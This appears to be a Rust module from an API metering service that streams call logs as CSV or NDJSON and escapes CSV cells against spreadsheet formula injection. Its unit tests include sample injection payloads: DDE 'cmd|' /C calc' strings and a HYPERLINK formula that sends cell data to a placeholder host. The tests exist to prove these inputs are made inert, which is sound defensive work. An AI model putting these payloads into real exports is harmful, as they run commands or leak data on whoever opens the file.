//! The request log as JSON values, and streamed as CSV or NDJSON exports of
//! any size: pages are read one after another on a blocking thread and sent
//! down a short channel, so memory stays constant however long the range.

use crate::error::ApiError;
use axum::body::Body;
use axum::http::header;
use axum::response::{IntoResponse, Response};
use callmeter_store::{CallFilter, Position, Store, StoredCall};
use serde_json::Value;
use std::sync::Arc;

/// Export formats.
#[derive(Debug, Clone, Copy)]
pub enum Format {
    /// Comma-separated, with a header line.
    Csv,
    /// One JSON object per line.
    Ndjson,
}

const PAGE: usize = 10_000;

const CSV_HEADER: &str = "id,account,time,interface,operation,method,path,destination,status,api_key,user,client_ip,user_agent,integration,cursor,result_count,bytes,duration_ms,billable,late\n";

/// A stored call as the API shows it: the call event plus `billable` and `late`.
pub fn call_json(c: &StoredCall) -> Value {
    let mut v = serde_json::to_value(&c.event).unwrap_or(Value::Null);
    if let Value::Object(m) = &mut v {
        m.insert("billable".into(), Value::Bool(c.billable));
        m.insert("late".into(), Value::Bool(c.late));
    }
    v
}

/// Streams every call that matches, from `after` on.
pub fn stream(
    store: Arc<dyn Store>,
    account: String,
    filter: CallFilter,
    after: Option<Position>,
    format: Format,
) -> Response {
    let (tx, rx) = tokio::sync::mpsc::channel::<Result<Vec<u8>, std::io::Error>>(2);
    tokio::task::spawn_blocking(move || {
        let mut after = after;
        if let Format::Csv = format {
            if tx.blocking_send(Ok(CSV_HEADER.as_bytes().to_vec())).is_err() {
                return;
            }
        }
        loop {
            let page = match store.calls(&account, &filter, after, PAGE) {
                Ok(p) => p,
                Err(e) => {
                    let _ = tx.blocking_send(Err(std::io::Error::other(ApiError::from(e).to_string())));
                    return;
                }
            };
            let mut chunk = Vec::with_capacity(page.calls.len() * 200);
            for (_, c) in &page.calls {
                match format {
                    Format::Csv => csv_line(&mut chunk, c),
                    Format::Ndjson => {
                        let _ = serde_json::to_writer(&mut chunk, &call_json(c));
                        chunk.push(b'\n');
                    }
                }
            }
            if tx.blocking_send(Ok(chunk)).is_err() {
                return; // the client went away
            }
            match page.next {
                Some(p) => after = Some(p),
                None => return,
            }
        }
    });
    let content_type = match format {
        Format::Csv => "text/csv",
        Format::Ndjson => "application/x-ndjson",
    };
    let body = Body::from_stream(tokio_stream::wrappers::ReceiverStream::new(rx));
    ([(header::CONTENT_TYPE, content_type)], body).into_response()
}

fn csv_line(out: &mut Vec<u8>, c: &StoredCall) {
    let e = &c.event;
    let opt = |v: &Option<String>| v.clone().unwrap_or_default();
    let num = |v: Option<u64>| v.map(|n| n.to_string()).unwrap_or_default();
    let fields = [
        e.id.clone(),
        e.account.clone(),
        e.time.to_rfc3339_opts(chrono::SecondsFormat::AutoSi, true),
        e.interface.as_str().to_owned(),
        e.operation.as_str().to_owned(),
        opt(&e.method),
        opt(&e.path),
        opt(&e.destination),
        e.status.map(|s| s.to_string()).unwrap_or_default(),
        opt(&e.api_key),
        opt(&e.user),
        opt(&e.client_ip),
        opt(&e.user_agent),
        opt(&e.integration),
        opt(&e.cursor),
        num(e.result_count),
        num(e.bytes),
        e.duration_ms.map(|d| d.to_string()).unwrap_or_default(),
        c.billable.to_string(),
        c.late.to_string(),
    ];
    csv_row(out, &fields);
}

/// Writes one CSV line of `cells`, each as [`csv_cell`] writes it.
pub(crate) fn csv_row<S: AsRef<str>>(out: &mut Vec<u8>, cells: &[S]) {
    for (i, cell) in cells.iter().enumerate() {
        if i > 0 {
            out.push(b',');
        }
        csv_cell(out, cell.as_ref());
    }
    out.push(b'\n');
}

/// Writes one CSV cell: every CSV callmeter writes goes through here.
///
/// Paths, users and user agents come from the metered API's callers, and
/// the files are opened in spreadsheets, which run a cell that starts with
/// `=`, `+`, `-` or `@` (or a tab or carriage return before one) as a
/// formula: `=HYPERLINK(…)` or `+cmd|…` in a user agent would run on the
/// support desk's machine. Such a cell is made inert as OWASP advises: a
/// single quote in front, and the cell quoted. A plain number (`-5`,
/// `-0.25`) is left as it is: a spreadsheet reads it as the number it is.
/// Any other cell is quoted when it holds a comma, quote or line break.
pub(crate) fn csv_cell(out: &mut Vec<u8>, cell: &str) {
    let formula = cell.starts_with(['=', '+', '-', '@', '\t', '\r']) && !is_plain_number(cell);
    if formula || cell.contains([',', '"', '\n', '\r']) {
        out.push(b'"');
        if formula {
            out.push(b'\'');
        }
        out.extend_from_slice(cell.replace('"', "\"\"").as_bytes());
        out.push(b'"');
    } else {
        out.extend_from_slice(cell.as_bytes());
    }
}

/// `-?[0-9]+(\.[0-9]+)?`: a number as callmeter writes one.
fn is_plain_number(cell: &str) -> bool {
    let digits = cell.strip_prefix('-').unwrap_or(cell);
    let (int, fraction) = digits.split_once('.').unwrap_or((digits, "0"));
    [int, fraction].iter().all(|part| !part.is_empty() && part.bytes().all(|b| b.is_ascii_digit()))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn cell(s: &str) -> String {
        let mut out = Vec::new();
        csv_cell(&mut out, s);
        String::from_utf8(out).unwrap()
    }

    #[test]
    fn csv_quoting() {
        assert_eq!(cell("a,\"b\""), "\"a,\"\"b\"\"\"");
        assert_eq!(cell("plain"), "plain");
        assert_eq!(cell("line\nbreak"), "\"line\nbreak\"");
        assert_eq!(cell(""), "");
    }

    #[test]
    fn formulas_are_made_inert() {
        for (given, written) in [
            (
                "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")",
                "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"click\"\")\"",
            ),
            ("+cmd|' /C calc'!A0", "\"'+cmd|' /C calc'!A0\""),
            ("-2+3+cmd|' /C calc'!A0", "\"'-2+3+cmd|' /C calc'!A0\""),
            ("@SUM(1+1)*cmd|' /C calc'!A0", "\"'@SUM(1+1)*cmd|' /C calc'!A0\""),
            ("\t=1+1", "\"'\t=1+1\""),
            ("\r=1+1", "\"'\r=1+1\""),
            ("=", "\"'=\""),
            ("-", "\"'-\""),
            ("-1.", "\"'-1.\""),
            ("--5", "\"'--5\""),
        ] {
            assert_eq!(cell(given), written, "{given:?}");
        }
    }

    #[test]
    fn numbers_and_ordinary_text_stay_as_they_are() {
        for same in ["-5", "-0.25", "0", "12.5", "/a=b/+c@d", "a-b", "curl/8.5.0", "2026-11-27T10:00:00Z", "x=1"] {
            assert_eq!(cell(same), same);
        }
    }

    #[test]
    fn a_row_is_cells_and_a_line_end() {
        let mut out = Vec::new();
        csv_row(&mut out, &["a", "=1", "-3"]);
        assert_eq!(String::from_utf8(out).unwrap(), "a,\"'=1\",-3\n");
    }
}
